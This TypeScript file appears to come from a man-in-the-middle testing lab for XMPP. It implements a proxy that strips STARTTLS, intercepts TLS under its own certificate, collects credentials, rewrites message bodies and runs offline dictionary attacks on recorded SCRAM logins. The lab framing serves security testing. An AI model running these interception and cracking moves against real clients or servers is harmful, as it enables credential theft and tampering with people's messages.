import type net from "node:net";
import type { Element } from "ltx";
import { Element as El } from "ltx";
import type { Direction, Edit, Emit, LabEventBody, LootItem, Move, ReadContext } from "../lab/core/events.js";
import { NS } from "../lab/core/ns.js";
import { headerXml, labelOf, mechanismsOf } from "../lab/core/stanzas.js";
import { certFacts, type Identity, type KeyLog, tidyOpenSsl } from "../lab/core/tls.js";
import { crackScram } from "../lab/core/sasl/crack.js";
import { type Span, XmlStreamParser } from "../lab/core/xml-stream.js";
import { TacticLedger } from "./ledger.js";
import { LootCollector } from "./loot.js";
import { RELAY_WINDOW, sealedRelay } from "./sealed.js";
import type { TacticDef, TacticName, Where } from "./tactics/index.js";
import { terminateTls, tlsToServer, upstreamStartTls } from "./tls-moves.js";

export interface InterceptionConfig {
  name: string;
  id: string;
  emit: Emit;
  tactics: ReadonlySet<TacticName>;
  /** The registry, in its order of effect (tactics/registry.ts). */
  defs: readonly TacticDef[];
  identity?: Identity;
  domain: string;
  timeoutMs: number;
  /** The most she holds of one stanza; a larger one goes by unread (limits.ts). */
  maxStanza: number;
  keylog?: KeyLog;
  /** crack: the words to guess with, in order. */
  wordlist: readonly string[];
}

/** What a tactic made of the bytes in [start, end) of a pipe: `xml` goes out instead ("" removes them). */
type Replacement = { start: number; end: number; xml: string };

/**
 * One direction of the XML relay. Bytes are held from `heldAt` (an offset in what was read)
 * until the parser says an element ended; then they go out exactly as they came, except the
 * spans a tactic replaced. At most one partial element is held, and no more than maxStanza of
 * it: a larger one goes by unread.
 */
interface Pipe {
  dir: Direction;
  from: net.Socket;
  to: net.Socket;
  parser: XmlStreamParser;
  held: Buffer[];
  heldAt: number;
  /** Bytes read from `from` so far. */
  read: number;
  replaced: Replacement[];
  /** A special move took this direction over (its rest is not forwarded as is). */
  suspended: boolean;
}

/** Tactics that read every element: while one is on, mallory keeps parsing (a user's tactic may act on anything). */
const READERS: readonly TacticName[] = ["observe", "loot", "tamper", "custom"];

/**
 * One client connection through mallory. Bytes are parsed as they come and forwarded exactly
 * as they came once the element they belong to is complete; only an element a tactic changed
 * goes out re-serialised, in its place. A partial element is held until it completes (or goes
 * by unread when larger than she holds). The special moves (answer TLS, STARTTLS toward the
 * server, going sealed) swap the sockets underneath.
 *
 * Everything it reports is what it observed or did: a `move` or `relay` event is a claim the
 * witness checks (lab/witness/claims.ts).
 */
export class Interception {
  private c2s!: Pipe;
  private s2c!: Pipe;
  private clientHeader: Record<string, string> = {};
  private strippedStartTls = false;
  /** mallory went to the server with STARTTLS herself (sslstrip's move): never twice. */
  private upstreamTls = false;
  private context: ReadContext = "cleartext";
  private stage: "pre-auth" | "post-auth" = "pre-auth";
  private readonly loot: LootCollector;
  private readonly ledger: TacticLedger;
  private readonly editors: TacticDef[];
  private closed = false;
  /** Async moves in flight (TLS interception, the sslstrip move): stop() waits for them. */
  private readonly moves: Promise<unknown>[] = [];
  /**
   * Handshake done, nothing from the client yet. A pinning client finishes the TLS handshake
   * and only then checks the key, so "the client sends through mallory's TLS" is claimed only
   * once it does.
   */
  private awaitingClient = false;
  /** Set once nothing is left that needs parsing. */
  private goRaw = false;
  /** Both TLS handshakes of intercept-tls are under way: interceptTls reports how they ended. */
  private handshaking = false;
  /** Which side's socket closed first. */
  private closedBy: "client" | "server" | null = null;
  /** Set on close: resolves once the close is reported (the connection's last event). */
  private ended: Promise<void> | null = null;

  constructor(
    private client: net.Socket,
    private server: net.Socket,
    private readonly cfg: InterceptionConfig,
  ) {
    this.loot = new LootCollector((item) => this.found(item));
    this.ledger = new TacticLedger(cfg.defs, cfg.tactics, (tactic, status, context, why) =>
      this.cfg.emit(this.cfg.name, { kind: "tactic", tactic, status, context, why }, this.cfg.id),
    );
    this.editors = cfg.defs.filter((d) => d.edit && cfg.tactics.has(d.name));
    client.on("close", () => this.close("client"));
    server.on("close", () => this.close("server"));
    for (const s of [client, server]) s.on("error", () => {});
  }

  private has(t: TacticName): boolean {
    return this.cfg.tactics.has(t);
  }

  /** Every event goes out here, so the ledger sees each tactic that acted. */
  private emit(body: LabEventBody): void {
    if (body.kind === "move") this.ledger.act(body.tactic);
    else if (body.kind === "relay") for (const e of body.edits) this.ledger.act(e.tactic);
    else if (body.kind === "loot") this.ledger.act("loot");
    this.cfg.emit(this.cfg.name, body, this.cfg.id);
  }

  private move(tactic: TacticName | null, move: Move): void {
    this.emit({ kind: "move", tactic, move });
  }

  private enter(context: ReadContext): void {
    this.context = context;
    this.ledger.enter(context);
  }

  private found(item: LootItem): void {
    if (this.has("loot")) this.emit({ kind: "loot", loot: item });
    if (item.type === "scram" && this.has("crack")) this.moves.push(this.crack(item));
  }

  /**
   * crack: a dictionary attack on the exchange she just recorded (RFC 5802 §9), offline - the
   * relay goes on meanwhile. A password it recovers is a claim like any loot (checked against
   * ground truth by the verdict).
   */
  private async crack(x: Extract<LootItem, { type: "scram" }>): Promise<void> {
    this.ledger.act("crack"); // it acts from here, even if the connection ends before the guess does
    try {
      const r = await crackScram(x, this.cfg.wordlist);
      this.move("crack", { type: "offline-guess", username: r.username, mechanism: r.mechanism, iterations: r.iterations, words: this.cfg.wordlist.length, guesses: r.guesses, ms: r.ms, password: r.password });
      if (r.password !== null && this.has("loot")) this.emit({ kind: "loot", loot: { type: "credential", mechanism: x.mechanism, username: r.username, password: r.password } });
    } catch (err) {
      this.move("crack", { type: "offline-guess-skipped", username: x.username, mechanism: x.mechanism, why: (err as Error).message });
    }
  }

  /** The first bytes from the client decide: TLS from the first byte (0x16) or XML. */
  start(): void {
    this.client.once("data", (first: Buffer) => {
      if (first[0] === 0x16) this.moves.push(this.directTls(first));
      else {
        this.xmlMode(this.client, this.server);
        this.onData(this.c2s, first);
      }
    });
  }

  /** Nothing crossed either way for `seconds` (index.ts sets the timer): close it. */
  idle(seconds: number): void {
    if (this.closed) return;
    this.move(null, { type: "idle-closed", seconds });
    this.close();
  }

  /** `by`: whose socket closed; none when mallory herself ends the connection. */
  close(by?: "client" | "server"): void {
    if (this.closed) return;
    this.closed = true;
    this.closedBy = by ?? null;
    // Whatever she already relayed still reaches its side (destroy would drop what is queued);
    // bounded, as a peer may never close its half.
    for (const s of [this.client, this.server]) {
      s.end();
      setTimeout(() => s.destroy(), 2000).unref();
    }
    // A close in the middle of intercept-tls's handshakes is told by interceptTls once both
    // have settled: only then is it known which side ended it.
    if (!this.handshaking) this.finish();
    // The connection's last event, once every move in flight has reported: a reader of her log
    // alone (mitm-lab watch) knows from it that this session is over.
    this.ended = Promise.allSettled(this.moves).then(() => this.cfg.emit(this.cfg.name, { kind: "closed", reason: null }, this.cfg.id));
  }

  /** The connection is over: report what is still open, then every tactic that never acted. */
  private finish(): void {
    if (this.awaitingClient) {
      this.awaitingClient = false;
      if (this.closedBy === "client") this.move("intercept-tls", { type: "client-hung-up" });
    }
    this.ledger.close(this.context);
  }

  /** Resolves once every async move has finished (and, once closed, the close is reported), so no event arrives after a run ends. */
  settled(): Promise<void> {
    return this.ended ?? Promise.allSettled(this.moves).then(() => undefined);
  }

  // ---- TLS from the client: direct (XEP-0368) or after STARTTLS ---------------------------

  private async directTls(first: Buffer): Promise<void> {
    if (!this.has("intercept-tls") || !this.cfg.identity) return this.sealed(first);
    await this.interceptTls(first, "direct");
  }

  /** intercept-tls: TLS with the client under mallory's identity, TLS with the server as mallory. */
  private async interceptTls(first: Buffer | null, how: "direct" | "starttls"): Promise<void> {
    const id = this.cfg.identity!;
    this.move("intercept-tls", { type: "tls-answered", how, cert: certFacts(id.cert) });
    this.handshaking = true;
    const [toClient, toServer] = await Promise.allSettled([
      terminateTls(this.client, first, id, this.cfg.keylog),
      tlsToServer(this.server, this.cfg.domain, this.cfg.keylog),
    ]);
    this.handshaking = false;
    const failed = (r: PromiseSettledResult<unknown>) => (r.status === "rejected" ? tidyOpenSsl((r.reason as Error).message) : null);
    const clientFailed = failed(toClient);
    const serverFailed = failed(toServer);
    // Whoever closed first while both handshakes ran ended it: close() then tears down the
    // other side, whose handshake fails too ("closed during the handshake") - that failure is
    // mallory's doing, not the client's. Her TLS to a server that answers a ClientHello with
    // XML (a STARTTLS port, RFC 6120 §5.4.3.3) fails and its socket closes, often before the
    // client's handshake with her is done: blaming the client for it was a race she lost.
    const clientEnded = this.closedBy === "client" || (clientFailed !== null && this.closedBy !== "server");
    if (clientEnded) {
      // Node clients verify after OpenSSL's handshake and then just close: no alert reaches
      // mallory, only the hang-up. A real alert, when there is one, is quoted.
      const alert = clientFailed !== null && !/closed during the handshake/.test(clientFailed);
      this.move("intercept-tls", alert ? { type: "client-tls-alert", alert: clientFailed! } : { type: "client-hung-up" });
    } else if (serverFailed !== null) {
      // Her own TLS to the server failed: say so, and blame nobody else.
      this.move("intercept-tls", { type: "server-tls-failed", error: serverFailed });
    }
    if (this.closed || clientFailed !== null || serverFailed !== null) {
      for (const r of [toClient, toServer]) if (r.status === "fulfilled") r.value.destroy();
      if (!this.closed) this.close();
      else this.finish();
      return;
    }
    const [tc, ts] = [toClient as PromiseFulfilledResult<net.Socket>, toServer as PromiseFulfilledResult<net.Socket>];
    this.client = tc.value;
    this.server = ts.value;
    this.client.on("close", () => this.close("client"));
    this.server.on("close", () => this.close("server"));
    for (const s of [this.client, this.server]) s.on("error", () => {});
    this.enter("inside-tls");
    this.awaitingClient = true;
    this.xmlMode(this.client, this.server);
  }

  // ---- sealed: bytes mallory cannot read -----------------------------------------------------

  private sealed(firstFromClient: Buffer | null): void {
    this.move(null, { type: "sealed" });
    this.enter("sealed");
    sealedRelay(this.client, this.server, { emit: (body) => this.emit(body), flip: this.has("flip-bytes") }, firstFromClient);
  }

  // ---- the XML relay ---------------------------------------------------------------------

  private xmlMode(client: net.Socket, server: net.Socket): void {
    this.c2s = this.pipe("c2s", client, server);
    this.s2c = this.pipe("s2c", server, client);
  }

  private pipe(dir: Direction, from: net.Socket, to: net.Socket): Pipe {
    const p: Pipe = { dir, from, to, parser: null!, held: [], heldAt: 0, read: 0, replaced: [], suspended: false };
    p.parser = new XmlStreamParser({
      onStreamStart: (attrs, header) => this.onHeader(p, attrs, header),
      onElement: (el, at) => this.onElement(p, el, at),
      onStreamEnd: () => {
        // Its bytes go on as they came; reported like any element: the end tag is the sender's, not hers.
        this.emit({ kind: "relay", dir: p.dir, context: this.readContext(), label: "close stream", xml: "</stream:stream>", edits: [], original: null });
      },
      onError: (condition, text) => {
        // Not mallory's job to police XML (the receiver will, with this very stream error):
        // she says so, and from here this direction is a plain byte relay.
        this.move(null, { type: "unreadable", dir, condition, text });
        this.forward(p, p.read);
        p.suspended = true;
        from.removeAllListeners("data");
        from.pipe(p.to);
      },
      // A stanza larger than she holds goes by unread; she reads on after it (issue 13).
      onOversized: () => this.move(null, { type: "stanza-too-large", dir, limit: this.cfg.maxStanza }),
    }, this.cfg.maxStanza, { oversized: "skip" });
    from.removeAllListeners("data");
    from.on("data", (chunk: Buffer) => this.onData(p, chunk));
    from.resume();
    return p;
  }

  private onData(p: Pipe, chunk: Buffer): void {
    p.held.push(chunk);
    p.read += chunk.length;
    p.parser.write(chunk);
    if (p.suspended) return;
    // Forward up to the end of the last complete element; hold only the partial one after it -
    // unless it is too large to hold, and goes by as it comes.
    this.forward(p, p.parser.skipping ? p.read : p.parser.boundary);
    if (this.goRaw) this.byteRelay();
  }

  /** Forward the bytes held before `upTo` as they came, except the spans a tactic replaced. */
  private forward(p: Pipe, upTo: number): void {
    if (upTo < p.heldAt || (upTo === p.heldAt && !p.replaced.length)) return;
    const bytes = p.held.length === 1 ? p.held[0] : Buffer.concat(p.held);
    const out: Buffer[] = [];
    let at = p.heldAt;
    const later: Replacement[] = [];
    for (const r of p.replaced) {
      if (r.end > upTo) {
        later.push(r);
        continue;
      }
      if (r.start > at) out.push(bytes.subarray(at - p.heldAt, r.start - p.heldAt));
      out.push(Buffer.from(r.xml));
      at = Math.max(at, r.end);
    }
    if (upTo > at) out.push(bytes.subarray(at - p.heldAt, upTo - p.heldAt));
    p.replaced = later;
    p.held = upTo - p.heldAt < bytes.length ? [bytes.subarray(upTo - p.heldAt)] : [];
    p.heldAt = upTo;
    const data = out.length === 1 ? out[0] : Buffer.concat(out);
    if (data.length && !p.to.destroyed) {
      p.to.write(data);
      // Backpressure, as in the sealed relay: a receiver slower than its sender (an oversized
      // stanza going by, a peer that stops reading) must not queue up in mallory's memory.
      if (p.to.writableLength > RELAY_WINDOW && !p.from.isPaused()) {
        p.from.pause();
        p.to.once("drain", () => p.from.resume());
      }
    }
  }

  /** A tactic's output for the element at `at`; with no span (a synthesised element) it goes out next. */
  private replace(p: Pipe, at: Span | undefined, xml: string): void {
    p.replaced.push(at ? { start: at.start, end: at.end, xml } : { start: p.heldAt, end: p.heldAt, xml });
  }

  private readContext(): "cleartext" | "inside-tls" {
    return this.context === "inside-tls" ? "inside-tls" : "cleartext";
  }

  private onHeader(p: Pipe, attrs: Record<string, string>, header: Element): void {
    if (p.dir === "c2s") {
      this.clientHeader = { ...attrs };
      if (this.awaitingClient) {
        this.awaitingClient = false;
        this.move("intercept-tls", { type: "client-sent-through-tls" });
      }
    }
    const xml = headerXml(header.attrs);
    this.emit({ kind: "relay", dir: p.dir, context: this.readContext(), label: "stream header", xml, edits: [], original: null });
  }

  /**
   * A tactic that trips over an odd element (an <auth/> without a mechanism, say) must not
   * switch her off for the rest of the connection: she reports it, forwards the element as it
   * came, and goes on with the next one (issue 13).
   */
  private onElement(p: Pipe, el: Element, at?: Span): void {
    try {
      this.readElement(p, el, at);
    } catch (err) {
      this.move(null, { type: "element-unread", dir: p.dir, element: el.name, error: (err as Error).message });
    }
  }

  private readElement(p: Pipe, el: Element, at?: Span): void {
    const original = el.toString();
    const where: Where = { dir: p.dir, context: this.readContext(), stage: this.stage };
    if (p.dir === "c2s") {
      this.loot.fromClient(el);
      if (el.name === "message" && el.getChild("body")) this.ledger.messageSeen();
      if (el.name === "starttls" && el.getNS() === NS.tls && this.strippedStartTls) {
        // The client asks for TLS although we hid it (RFC 7590 §3.1): refuse in the server's name.
        this.move("strip-starttls", { type: "starttls-refused" });
        this.ledger.startTlsRefused();
        this.replace(p, at, "");
        this.client.end(new El("failure", { xmlns: NS.tls }).toString() + "</stream:stream>");
        return;
      }
    } else {
      this.loot.fromServer(el);
      if (el.name === "proceed" && el.getNS() === NS.tls) return this.onProceed(p, el, original, at);
    }
    const { out, edits, append, sslstrip } = this.applyTactics(el, where);
    for (const e of edits) {
      if (e.op === "rewrote-body") this.found({ type: "message-tampered", to: (el.attrs.to as string) ?? null, sent: e.before, delivered: e.after });
    }
    if (p.dir === "s2c" && el.name === "success" && el.getNS() === NS.sasl) this.stage = "post-auth"; // RFC 6120 §6.3.2
    if (sslstrip) {
      this.emit({ kind: "relay", dir: p.dir, context: where.context, label: labelOf(el), xml: "", edits, original });
      this.replace(p, at, ""); // the features are withheld: the client gets the post-TLS ones instead
      p.suspended = true;
      p.parser.pause();
      this.moves.push(this.sslstrip(p, sslstrip));
      return;
    }
    // After authentication nothing but stanzas follow (§6.3.2). Once the post-auth features
    // have passed, with no tactic left to read or change anything, parsing is pure cost.
    if (p.dir === "s2c" && el.name === "stream:features" && this.stage === "post-auth" && !READERS.some((t) => this.has(t))) {
      this.goRaw = true;
    }
    if (out === null) {
      this.replace(p, at, "");
      this.emit({ kind: "relay", dir: p.dir, context: where.context, label: labelOf(el), xml: "", edits, original });
      return;
    }
    const xml = (out === el ? original : out.toString()) + append;
    if (out !== el || append || !at) this.replace(p, at, xml);
    this.emit({ kind: "relay", dir: p.dir, context: where.context, label: labelOf(out), xml, edits, original: out === el && !append ? null : original });
  }

  /**
   * The configured element tactics, in the registry's order, on one element. A tactic that
   * cannot act in this context was already reported (TacticLedger.enter) and is skipped.
   */
  private applyTactics(el: Element, where: Where): { out: Element | null; edits: Edit[]; append: string; sslstrip: "server-requires-tls" | "no-mechanisms-before-tls" | null } {
    let out: Element | null = el;
    const edits: Edit[] = [];
    let append = "";
    for (const d of this.editors) {
      if (!out || !d.contexts.includes(where.context)) continue;
      const r = d.edit!(out, where);
      if (!r) continue;
      out = r.el;
      edits.push(...r.edits);
      append += r.append ?? "";
      const strip = r.edits.find((e) => e.op === "removed-starttls");
      if (!strip || strip.op !== "removed-starttls") continue;
      this.strippedStartTls = true;
      // A server that requires TLS offers nothing else before it (RFC 6120 §5.3.1, §6.3.4): go
      // get it - before authentication only (a server may re-offer optional STARTTLS after
      // login, as Prosody does), and not with offer-plain, the cruder move that harvests the
      // password and lets the login fail.
      const because = strip.required ? "server-requires-tls" : !mechanismsOf(el).length && !el.getChild("bind", NS.bind) ? "no-mechanisms-before-tls" : null;
      if (because && where.stage === "pre-auth" && !this.upstreamTls && !this.has("offer-plain")) {
        return { out: null, edits: [...edits, { tactic: "strip-starttls", op: "withheld" }], append: "", sslstrip: because };
      }
    }
    return { out, edits, append, sslstrip: null };
  }

  private onProceed(p: Pipe, el: Element, original: string, at?: Span): void {
    p.parser.pause();
    p.suspended = true;
    this.emit({ kind: "relay", dir: p.dir, context: this.readContext(), label: labelOf(el), xml: original, edits: [], original: null });
    this.forward(p, at?.end ?? p.read);
    if (this.has("intercept-tls") && this.cfg.identity) this.moves.push(this.interceptTls(null, "starttls"));
    else this.sealed(null);
  }

  /** Nothing left to parse: forward what is held, then pipe bytes both ways untouched. */
  private byteRelay(): void {
    this.goRaw = false;
    for (const p of [this.c2s, this.s2c]) {
      this.forward(p, p.read);
      p.suspended = true;
      p.from.removeAllListeners("data");
      p.from.pipe(p.to);
    }
    this.move(null, { type: "byte-relay" });
    this.context = "byte-relay";
  }

  /** sslstrip's move: STARTTLS with the server, then show the client its post-TLS features in clear. */
  private async sslstrip(p: Pipe, because: "server-requires-tls" | "no-mechanisms-before-tls"): Promise<void> {
    this.forward(p, p.read);
    this.upstreamTls = true;
    this.move("strip-starttls", { type: "upstream-starttls", because });
    try {
      const { socket, features } = await upstreamStartTls(this.server, this.clientHeader, this.cfg.domain, this.cfg.timeoutMs, this.cfg.keylog);
      this.server = socket;
      socket.on("error", () => {});
      socket.on("close", () => this.close("server"));
      this.c2s.to = socket;
      this.s2c = this.pipe("s2c", socket, this.client);
      this.move("strip-starttls", { type: "upstream-starttls-done" });
      this.s2c.parser.assumeOpen({ from: this.cfg.domain, xmlns: NS.client, "xmlns:stream": NS.stream });
      this.onElement(this.s2c, features); // no span: what she makes of them goes out first
      this.forward(this.s2c, this.s2c.heldAt);
    } catch (err) {
      this.move("strip-starttls", { type: "upstream-starttls-failed", error: tidyOpenSsl((err as Error).message) });
      this.close();
    }
  }
}
